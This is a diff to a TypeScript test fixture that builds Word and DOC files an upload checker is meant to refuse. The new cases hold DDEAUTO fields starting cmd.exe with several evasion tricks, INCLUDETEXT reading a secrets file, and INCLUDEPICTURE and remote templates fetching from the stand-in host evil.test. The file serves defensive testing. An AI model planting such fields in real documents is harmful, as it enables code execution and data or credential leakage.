@@ -1,16 +1,17 @@
 import {
+  body,
   doc,
   docx,
   docxParts,
   external,
   links,
   type Packed,
-  pdf,
   relation,
   relations,
   settings,
   zip,
 } from "./files.ts";
+import { pdf } from "./pdfs.ts";
 
 const evil = relations(external("attachedTemplate", "https://evil.test/a.dotm"));
 const templateAt = (target: string) => () =>
@@ -40,6 +41,55 @@ const remoteTemplates: Record<string, () => Packed> = {
   "from a share by four strokes": templateAt("file:////evil.test/Users/a.dotm"),
   "from a share within an address": templateAt("file:///\\\\evil.test\\Users\\a.dotm"),
   "from the document's folder": templateAt("a.dotm"),
+};
+
+const text = (xml: string) => () => docx({ name: "word/header1.xml", content: body(xml) });
+const begin = '<w:fldChar w:fldCharType="begin"/>';
+const end = '<w:fldChar w:fldCharType="end"/>';
+const instruction = (words: string) => `<w:instrText>${words}</w:instrText>`;
+const field = (...words: string[]) => `${begin}${words.map(instruction).join("")}${end}`;
+const runs = String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`;
+const headerType = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml";
+
+/** Fields that run or fetch something when they are worked out, by how. */
+const activeFields: Record<string, () => Buffer> = {
+  "that starts a program": text(field(runs)),
+  "that starts a program, in small letters": text(field(runs.toLowerCase())),
+  "that starts a program, in pieces": text(field(" DD", "EAU", runs.slice(5))),
+  "that starts a program, in one element": text('<w:fldSimple w:instr="DDE cmd.exe a"/>'),
+  "that starts a program, in references": text(field("&#68;&#x44;E cmd.exe")),
+  "that starts a program, in a section of its own": text(field("<![CDATA[DDE cmd.exe]]>")),
+  "that starts a program, under another prefix": () =>
+    docx({ name: "word/a.xml", content: body(field(runs)).replaceAll("w:", "z:") }),
+  "that starts a program, within another": text(
+    `${begin}${instruction("IF 1 = 1 ")}${field(runs)}${end}`,
+  ),
+  "that starts a program, without an end": text(`${begin}${instruction(runs)}`),
+  "whose name is another field's result": text(
+    `${begin}${field("QUOTE 68 68 69")}${instruction(" cmd.exe")}${end}`,
+  ),
+  "that starts a program, in a part elsewhere": () => {
+    const said = `<Override PartName="/custom/a.txt" ContentType="${headerType}"/></Types>`;
+    const [types, ...others] = docxParts();
+    const content = types?.content?.toString().replace("</Types>", said) ?? "";
+    return zip([
+      { name: "[Content_Types].xml", content },
+      ...others,
+      { name: "custom/a.txt", content: body(field(runs)) },
+    ]);
+  },
+  "that runs a macro": text(field("MACROBUTTON Evil click here")),
+  "that reads another file": text(field(String.raw`INCLUDETEXT "C:\\secrets.txt"`)),
+  "that fetches a picture": text(field(String.raw`INCLUDEPICTURE "https://evil.test/a.png" \d`)),
+  "that fetches a picture from a share": text(
+    field(String.raw`INCLUDEPICTURE "\\\\evil.test\\a.png"`),
+  ),
+  "that fetches a picture from a share, by its address": text(
+    field('INCLUDEPICTURE "file:////evil.test/a.png"'),
+  ),
+  "that fetches a picture from where another field says": text(
+    `${begin}${instruction("INCLUDEPICTURE ")}${field("QUOTE 1")}${end}`,
+  ),
 };
 
 /** Files that are refused, by what is wrong with them. */
@@ -77,6 +127,22 @@ export const badFiles: Record<string, () => Buffer> = {
       () => docx(part()),
     ]),
   ),
+  ...Object.fromEntries(
+    Object.entries(activeFields).map(([how, file]) => [`a document with a field ${how}`, file]),
+  ),
+  "a document with a page in it": () =>
+    docx(
+      { name: "word/a.html", content: "<html></html>" },
+      links(relations(relation("aFChunk", "a.html"))),
+    ),
+  "a document whose text is no XML": text("<w:p>"),
+  "a document whose text declares entities": () =>
+    docx({
+      name: "word/a.xml",
+      content: body("").replace("<w:document", "<!DOCTYPE w:document><w:document"),
+    }),
+  "a document whose text is in UTF-16": () =>
+    docx({ name: "word/a.xml", content: Buffer.from(`\ufeff${body("")}`, "utf16le") }),
   "endless relations": () => docx(links("<Relationship ".repeat(75_000))),
   "a relation of many attributes without an end": () =>
     docx(links(`<Relationship${' a="b"'.repeat(40_000)}`)),
@@ -116,6 +182,11 @@ export const badFiles: Record<string, () => Buffer> = {
   "an archive that is cut off": () => docx().subarray(0, -8),
   "a DOC that is cut off": () => doc().subarray(0, 1_024),
   "a DOC with macros": () => doc("Macros"),
+  "a DOC with a packed file": () => doc("\u0001Ole10Native"),
+  "a DOC with a field that starts a program": () =>
+    Buffer.concat([doc(), Buffer.from(`\u0013 ${runs} \u0014 x \u0015`)]),
+  "a DOC with a field that starts a program, in two bytes a letter": () =>
+    Buffer.concat([doc(), Buffer.from(`\u0013 ${runs} \u0014 x \u0015`, "utf16le")]),
   "a compound file that is no document": () => {
     const file = doc();
     file.write("Workbook\0\0\0\0", 1_024 + 128, "utf16le");
